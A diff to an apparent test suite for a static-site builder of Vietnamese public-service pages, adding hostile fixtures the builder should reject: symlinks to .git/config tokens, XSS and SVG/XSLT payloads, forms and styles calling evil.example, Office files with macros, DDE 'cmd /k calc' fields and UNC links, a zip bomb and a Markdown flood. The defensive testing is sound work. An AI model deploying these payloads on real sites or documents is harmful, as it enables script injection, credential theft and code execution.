@@ -26,6 +26,7 @@ from collections.abc import Callable
 from dataclasses import dataclass, field
 from pathlib import Path
 
+from . import payloads
 from .conftest import BASE, FIXTURES, ROOT
 
 ERRORS = FIXTURES / "errors"
@@ -197,6 +198,14 @@ def _invalid_flood() -> bytes:
     return _record_code("1.004303").replace("levels: [xa]", f"levels: [{levels}]").encode()
 
 
+def _markdown_flood() -> bytes:
+    """Just under 1 MB of the Markdown whose parsing cost grows fastest with its length: unclosed brackets."""
+    head = _record_code("1.004305").replace(
+        "steps:\n", "steps:\n" + "".join(f"  - Bước {'[' * 24_000}\n" for _ in range(40))
+    )
+    return head.encode()
+
+
 def _outside(project: Path, name: str, content: bytes) -> Path:
     """A file beside the project folder, outside it."""
     outside = project.parent / "outside"
@@ -228,6 +237,48 @@ def _symlinked_page_file(project: Path) -> None:
     target = _outside(project, "id_ed25519", b"-----BEGIN OPENSSH PRIVATE KEY-----\n")
     (project / "pages").mkdir(exist_ok=True)
     (project / "pages" / "khoa.txt").symlink_to(target)
+
+
+def _git_secret(project: Path) -> Path:
+    """The project's ``.git/config``, holding a CI checkout's access token."""
+    config = project / ".git" / "config"
+    config.parent.mkdir(exist_ok=True)
+    config.write_text("[http]\n\textraheader = AUTHORIZATION: basic eC1hY2Nlc3MtdG9rZW46Z2hwX2JpbWF0\n")
+    return config
+
+
+def _symlinked_git_config(project: Path) -> None:
+    """Links that stay inside the project but lead to its secrets: straight, through another link, as a folder."""
+    _git_secret(project)
+    pages = project / "pages"
+    (pages / "anh").mkdir(parents=True)
+    (pages / "cau-hinh.txt").symlink_to("../.git/config")
+    (pages / "anh" / "ban-do.txt").symlink_to("../cau-hinh.txt")  # a link to a link
+    (pages / "kho").symlink_to("../.git")  # a folder
+
+
+def _symlinked_form_secret(project: Path) -> None:
+    _git_secret(project)
+    (project / "forms" / "CT32.yaml").write_text("id: CT32\ntitle: Tờ khai\nfile: CT32.pdf\n", encoding="utf-8")
+    (project / "forms" / "CT32.pdf").symlink_to("../.git/config")
+    (project / "procedures" / "cau-hinh.yaml").symlink_to("../.git/config")
+
+
+def _symlinked_hidden_file(project: Path) -> None:
+    """A link inside pages/ to a file of a hidden folder there (what a tool's cache or a checkout might hold)."""
+    hidden = project / "pages" / ".cache"
+    hidden.mkdir(parents=True)
+    (hidden / "token.txt").write_text("ghp_bimat\n", encoding="utf-8")
+    (project / "pages" / "token.txt").symlink_to(".cache/token.txt")
+
+
+def _file_over_the_cap(project: Path) -> None:
+    config = project / "mkdocs.yml"
+    text = config.read_text(encoding="utf-8").replace("    featured:", "    files: {max_mb: 1}\n    featured:")
+    config.write_text(text, encoding="utf-8")
+    image = project / "pages" / "anh" / "ban-do.png"
+    image.parent.mkdir(parents=True)
+    image.write_bytes(b"\x89PNG\r\n\x1a\n" + b"\0" * (3 * 2**20))
 
 
 def _named_pipe(project: Path) -> None:
@@ -268,6 +319,25 @@ _SVG = (
     'onload="alert(1)"><script>alert(document.domain)</script><a xlink:href="javascript:alert(2)">'
     '<rect width="10" height="10"/></a><foreignObject><p>x</p></foreignObject></svg>'
 )
+# The XSLT attack: an image that names a second one as its stylesheet; the second, a stylesheet in an image's
+# clothes (a literal result element), writes a <script>.
+_SVG_XSLT: dict[str, str | bytes] = {
+    "pages/anh/so-do.svg": '<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="ve.svg"?>'
+    '<svg xmlns="http://www.w3.org/2000/svg"><rect width="1" height="1"/></svg>',
+    "pages/anh/ve.svg": '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xsl="http://www.w3.org/1999/XSL/Transform" '
+    'xsl:version="1.0"><xsl:element name="script">alert(document.domain)</xsl:element></svg>',
+    "pages/anh/bieu-do.svg": '<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg">\n'
+    '<style>@import url("https://evil.example/x.css");</style>\n</svg>',
+}
+_SVG_REFERENCES: dict[str, str | bytes] = {
+    "pages/anh/logo.svg": '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">\n'
+    '<use xlink:href="so-do.svg#a"/>\n<use href="data:image/svg+xml,%3Csvg onload=alert(1)/%3E#x"/>\n'
+    '<image href="https://evil.example/pixel.png"/>\n<a href="#x"><set attributeName="href" '
+    'to="javascript:alert(1)"/></a>\n<rect fill="url(https://evil.example/p#g)"/>\n</svg>',
+    "pages/anh/so-do.svg": '<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><div '
+    'xmlns="http://www.w3.org/1999/xhtml"><iframe src="/quan-tri/"/></div></foreignObject></svg>',
+    "pages/anh/trang.svg": "<html><body><script>alert(1)</script></body></html>",
+}
 _NESTED = "".join(f"{'  ' * i}- mục {i + 1}\n" for i in range(10))
 
 
@@ -302,6 +372,28 @@ CONTENT_CASES: list[tuple[str, dict[str, str | bytes]]] = [
         _page(
             '[Bấm vào đây](javascript:alert(1))\n\n<a href=" jav&#x61;script:alert(2)">'
             "Bấm</a>\n\n[x]: javascript:alert(3)\n"
+        ),
+    ),
+    (
+        "page-script-types",
+        _page(
+            '<script type="text/jscript">alert(1)</script>\n\n'
+            '<script type="application/x-javascript">alert(2)</script>\n\n'
+            '<script type=" TEXT/LiveScript ">alert(3)</script>\n\n'
+            '<script type="application/ld+json">{"@type": "Thing"}</script>\n'
+        ),
+    ),
+    (
+        "page-frames-and-forms",
+        _page(
+            '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>\n\n'
+            '<p srcdoc="x">Đoạn văn</p>\n\n<object data="/anh/a.svg"></object>\n\n'
+            '<form action="https://evil.example/"><input name="cccd"></form>\n\n'
+            '<base href="https://evil.example/">\n\n<style>body{display:none}</style>\n\n'
+            '<details open ontoggle="alert(2)"><summary>Xem</summary></details>\n\n'
+            '<a href="javascript&colon;alert(3)" style="color:red">Bấm</a>\n\n'
+            '## Mục {: srcdoc="<script>alert(4)</script>" }\n\n'
+            "Liên hệ <hoidap@congan.gov.vn> hoặc <https://dichvucong.gov.vn/>.\n"
         ),
     ),
     ("page-meta-refresh", _page('<meta http-equiv="Refresh" content="0; url=https://evil.example/">\n')),
@@ -339,6 +431,14 @@ CONTENT_CASES: list[tuple[str, dict[str, str | bytes]]] = [
             "pages/404.html": "<p>x</p>",
         },
     ),
+    (
+        "page-generated-folders",
+        {
+            "pages/su-kien/index.md": "# Sự kiện giả\n",
+            "pages/Khong-Co-Mang.md": "# Giả\n",
+            "pages/quan-tri/index.md": "# Trình soạn thảo giả\n",
+        },
+    ),
     ("page-same-address", {"pages/lien-he.md": "# Liên hệ\n", "pages/lien-he/index.md": "# Liên hệ\n"}),
     (
         "page-missing-links",
@@ -364,6 +464,124 @@ CONTENT_CASES: list[tuple[str, dict[str, str | bytes]]] = [
         "yaml-upper-case",
         {"procedures/dang-ky-lai.YAML": _record_with("1.004195"), "forms/CT02.Yaml": "id: CT02\ntitle: Tờ khai\n"},
     ),
+    ("page-svg-xslt", _SVG_XSLT),
+    ("page-svg-references", _SVG_REFERENCES),
+    (
+        "page-file-disguised",
+        {
+            "pages/tai-lieu/huong-dan.pdf": "<html><script>alert(1)</script></html>",
+            "pages/tai-lieu/mau.docx": b"MZ\x90\0" + b"\0" * 60,
+            "pages/anh/logo.png": "<svg onload=alert(1)>",
+            "pages/anh/anh.webp": payloads.pdf(),
+            "pages/tai-lieu/danh-sach.csv": "Họ tên\0\n",
+            "pages/tai-lieu/ghi-chu.txt": b"\xff\xfeH\0",
+        },
+    ),
+    (
+        "page-office-documents",
+        {
+            "pages/tai-lieu/mau.docx": payloads.docx(remote_template="https://evil.example/t.dotm"),
+            "pages/tai-lieu/bang.xlsx": payloads.xlsx(external_workbook="file:///\\\\10.0.0.1\\chia-se\\a.xlsx"),
+            "pages/tai-lieu/mau-cu.doc": payloads.doc(macros=True),
+            "pages/tai-lieu/bang-cu.xls": payloads.xls(macros=True),
+            "pages/tai-lieu/to-khai.odt": payloads.odt(macro=True),
+            "pages/tai-lieu/ban-ve.odt": payloads.odt(linked="file:///C:/ban-ve.png"),
+        },
+    ),
+    (
+        "page-file-names",
+        {
+            "pages/tai-lieu/mau #1?.pdf": payloads.pdf(),
+            "pages/tai-lieu/ảnh%20.png": b"\x89PNG\r\n\x1a\n",
+            "pages/tai lieu/-mau.txt": "Tờ khai\n",
+            "pages/tai-lieu/mau  cu.txt": "Tờ khai\n",
+        },
+    ),
+    (
+        "form-file-macros",
+        {
+            "forms/CT40.yaml": "id: CT40\ntitle: Tờ khai có macro\nfile: CT40.docx\n",
+            "forms/CT40.docx": payloads.docx(macros=True),
+        },
+    ),
+    (
+        "form-file-doctype",
+        {
+            "forms/CT41.yaml": "id: CT41\ntitle: Tờ khai có DOCTYPE\nfile: CT41.docx\n",
+            "forms/CT41.docx": payloads.docx(doctype=True),
+        },
+    ),
+    (
+        "form-file-ole-object",
+        {
+            "forms/CT42.yaml": "id: CT42\ntitle: Tờ khai có đối tượng OLE\nfile: CT42.docx\n",
+            "forms/CT42.docx": payloads.docx(ole_object=True),
+            "forms/CT43.yaml": "id: CT43\ntitle: Tờ khai cũ có đối tượng OLE\nfile: CT43.doc\n",
+            "forms/CT43.doc": payloads.doc(ole_object=True),
+        },
+    ),
+    (
+        "form-file-dde",
+        {
+            "forms/CT44.yaml": "id: CT44\ntitle: Tờ khai có trường DDE\nfile: CT44.docx\n",
+            "forms/CT44.docx": payloads.docx(field='DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"'),
+            "forms/CT45.yaml": "id: CT45\ntitle: Bảng có công thức DDE\nfile: CT45.xlsx\n",
+            "forms/CT45.xlsx": payloads.xlsx(formula="cmd|' /C calc'!A0"),
+            "forms/CT46.yaml": "id: CT46\ntitle: Tờ khai chèn tệp\nfile: CT46.docx\n",
+            "forms/CT46.docx": payloads.docx(field='INCLUDETEXT "\\\\\\\\10.0.0.1\\\\a.docx"'),
+        },
+    ),
+    (
+        "form-file-name",
+        {"forms/CT47.yaml": 'id: CT47\ntitle: Tờ khai\nfile: "mau #1?.pdf"\n', "forms/mau #1?.pdf": payloads.pdf()},
+    ),
+    (
+        "form-file-case",
+        {
+            "forms/CT50.yaml": "id: CT50\ntitle: Tờ khai\nfile: CT50-MAU-IN.pdf\nfields:\n"
+            "  - {type: text, id: ho_ten, label: Họ và tên}\n",
+            "forms/CT50-MAU-IN.pdf": payloads.pdf(),
+        },
+    ),
+    (
+        "form-file-damaged",
+        {
+            "forms/CT48.yaml": "id: CT48\ntitle: Tờ khai\nfile: CT48.pdf\n",
+            "forms/CT48.pdf": b"%PDF-1.7\n% only a header\n",
+        },
+    ),
+    (
+        "form-id-reserved",
+        {
+            "forms/index.html.yaml": "id: index.html\ntitle: Tờ khai\nfields:\n"
+            "  - {type: text, id: ho_ten, label: Họ và tên}\n",
+            "forms/index.yaml": "id: index\ntitle: Tờ khai\nfields:\n  - {type: text, id: ho_ten, label: Họ và tên}\n",
+        },
+    ),
+    (
+        "text-invalid-in-xml",
+        {
+            "procedures/dang-ky-tam-tru.yaml": _record_with(
+                "1.004194", title='"Đăng ký tạm trú\\uFFFE"', field='"Đăng ký, quản lý cư trú\\uFFFF"'
+            )
+        },
+    ),
+    (
+        "text-too-long",
+        {
+            "procedures/dang-ky-tam-tru.yaml": _record_with(
+                "1.004194", title="Đăng ký tạm trú " * 130, summary="Dành cho người đến sinh sống " * 400
+            )
+        },
+    ),
+    (
+        "markdown-too-long-together",
+        {
+            "procedures/dang-ky-tam-tru.yaml": _record_code("1.004194").replace(
+                "steps:\n", "steps:\n" + "".join(f"  - {'Chuẩn bị hồ sơ. ' * 560}\n" for _ in range(6)), 1
+            )
+        },
+    ),
     (
         "markdown-too-deep",
         {
@@ -388,7 +606,30 @@ def made_cases() -> list[Case]:
         case("symlinked-form-file", _symlinked_form_file, ("forms/CT30.yaml",)),
         case("symlinked-system-file", _symlinked_system_file, ("forms/CT31.yaml",)),
         case("symlinked-page-file", _symlinked_page_file, ("pages/khoa.txt",), command="build"),
+        case(
+            "symlinked-git-config", _symlinked_git_config, ("pages/cau-hinh.txt", "pages/anh/ban-do.txt", "pages/kho")
+        ),
+        case("symlinked-form-secret", _symlinked_form_secret, ("forms/CT32.yaml", "procedures/cau-hinh.yaml")),
+        case("symlinked-hidden-file", _symlinked_hidden_file, ("pages/token.txt", "pages/.cache/token.txt")),
+        case("file-over-the-cap", _file_over_the_cap, ("pages/anh/ban-do.png",)),
+        case(
+            "zip-bomb",
+            _files(
+                {
+                    "forms/CT49.yaml": "id: CT49\ntitle: Tờ khai\nfile: CT49.docx\n",
+                    "forms/CT49.docx": payloads.zip_bomb(),
+                }
+            ),
+            ("forms/CT49.yaml",),
+            heavy=True,
+        ),
         case("named-pipe", _named_pipe, ("procedures/ong-dan.yaml",), heavy=True),
+        case(
+            "markdown-flood",
+            _record("lu-markdown.yaml", _markdown_flood()),
+            ("procedures/lu-markdown.yaml",),
+            heavy=True,
+        ),
         case("hostile-settings", _hostile_settings, ("mkdocs.yml",)),
         *(case(name, _files(files), _named(files)) for name, files in CONTENT_CASES),
     ]
